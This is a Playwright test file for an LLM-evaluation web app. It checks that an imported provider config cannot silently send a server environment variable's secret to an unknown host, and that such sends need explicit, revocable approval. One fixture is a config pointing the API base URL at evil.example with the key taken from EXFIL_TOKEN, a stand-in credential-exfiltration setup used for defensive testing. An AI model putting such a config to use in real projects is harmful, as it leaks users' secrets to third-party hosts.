import { expect, test, type Page } from '@playwright/test';
import { startWebApp, freshDataDir, type WebApp } from './support/web-app';

/** In the server's environment; no part of it may ever reach the page. */
const SECRET = 'ghp_Zq7Xv9Kw2Lm4Np6Rt8Jy0Hb3Fd5';

let app: WebApp;
test.beforeEach(async () => {
  app = await startWebApp(freshDataDir(), { EXFIL_TOKEN: SECRET });
});
test.afterEach(async () => {
  await app.stop();
});

async function dropFile(page: Page, name: string, text: string): Promise<void> {
  await page.evaluate(
    ({ name, text }) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([text], name, { type: 'text/plain' }));
      window.dispatchEvent(new DragEvent('dragover', { dataTransfer: transfer, bubbles: true, cancelable: true }));
      window.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
    },
    { name, text },
  );
}

async function expectNoPartOfTheSecret(page: Page): Promise<void> {
  const html = await page.content();
  for (let i = 0; i + 3 < SECRET.length; i++) expect(html).not.toContain(SECRET.slice(i, i + 4));
}

test('an imported provider arrives with no key; its key is chosen in a dialog that names the variable and the host', async ({ page }) => {
  await page.goto(app.url);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  const yaml = [
    'prompts: ["Hi {{name}}"]',
    'providers:',
    '  - id: openai:chat:gpt-4o',
    '    label: Helpful',
    '    config: { apiBaseUrl: "https://evil.example/v1", apiKeyEnvar: EXFIL_TOKEN }',
    'tests:',
    '  - vars: { name: Ada }',
  ].join('\n');
  await dropFile(page, 'promptfooconfig.yaml', yaml);
  await expect(page.locator('.statusbar').getByRole('status')).toContainText('Added providers: Helpful');

  await page.getByRole('tab', { name: 'Settings' }).click();
  const entry = page.getByRole('listitem').filter({ hasText: 'Helpful' });
  await expect(entry).toContainText('no key');
  await entry.getByRole('button', { name: 'Confirm Helpful…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Confirm Helpful' });
  await expect(dialog).toContainText('evil.example');
  await expect(dialog.getByRole('radio', { name: 'No key' })).toBeChecked();
  await dialog.getByRole('radio', { name: 'The value of an environment variable' }).check();
  // Nothing is suggested for a host Parallax does not know, least of all the file's variable.
  await expect(dialog.getByRole('textbox', { name: 'Environment variable' })).toHaveValue('');
  await dialog.getByRole('textbox', { name: 'Environment variable' }).fill('EXFIL_TOKEN');
  await expect(dialog.getByRole('note')).toContainText('Parallax will send the value of EXFIL_TOKEN to evil.example.');
  await expect(dialog.getByRole('note')).toContainText('only go on if you trust evil.example with it');
  await expect(dialog.getByRole('button', { name: 'Send EXFIL_TOKEN to evil.example and confirm' })).toBeEnabled();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(dialog).toHaveCount(0);
  await expect(entry.getByRole('button', { name: 'Confirm Helpful…' })).toBeVisible();

  await entry.getByRole('button', { name: 'Confirm Helpful…' }).click();
  await page.getByRole('dialog', { name: 'Confirm Helpful' }).getByRole('button', { name: 'Confirm Helpful with no key' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Confirmed Helpful.' })).toBeVisible();
  await expect(entry.getByRole('button', { name: 'Confirm Helpful…' })).toHaveCount(0);
  await expect(entry).toContainText('no key');
  await expect(page.getByRole('list', { name: 'Keys for other hosts' })).toHaveCount(0);
  await expectNoPartOfTheSecret(page);
});

test('a variable named in Settings for another host is sent there only after a yes, and the yes is listed and can be taken back', async ({ page }) => {
  await page.goto(app.url);
  await expect(page.locator('body')).toHaveAttribute('data-ready', 'true');
  await page.getByRole('tab', { name: 'Settings' }).click();
  await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Mine');
  await page.getByRole('textbox', { name: 'Base URL' }).fill('https://llm.example/v1');
  await page.getByRole('textbox', { name: 'Key environment variable' }).fill('EXFIL_TOKEN');
  await page.getByRole('button', { name: 'Save provider' }).click();
  const ask = page.getByRole('dialog', { name: 'Send EXFIL_TOKEN to llm.example?' });
  await expect(ask).toContainText('Mine would send the value of EXFIL_TOKEN to llm.example.');
  await ask.getByRole('button', { name: 'Send EXFIL_TOKEN to llm.example' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Saved Mine.' })).toBeVisible();
  const entry = page.getByRole('listitem').filter({ hasText: 'Mine' });
  await expect(entry).toContainText('key from EXFIL_TOKEN (set)');
  const approvals = page.getByRole('list', { name: 'Keys for other hosts' });
  await expect(approvals).toContainText('EXFIL_TOKEN → llm.example');
  await expectNoPartOfTheSecret(page);

  await approvals.getByRole('button', { name: 'Remove EXFIL_TOKEN → llm.example' }).click();
  await expect(page.getByRole('list', { name: 'Keys for other hosts' })).toHaveCount(0);
  await entry.getByRole('button', { name: 'Test Mine' }).click();
  await expect(entry.getByRole('alert')).toContainText('Parallax does not send the value of EXFIL_TOKEN to llm.example');
});
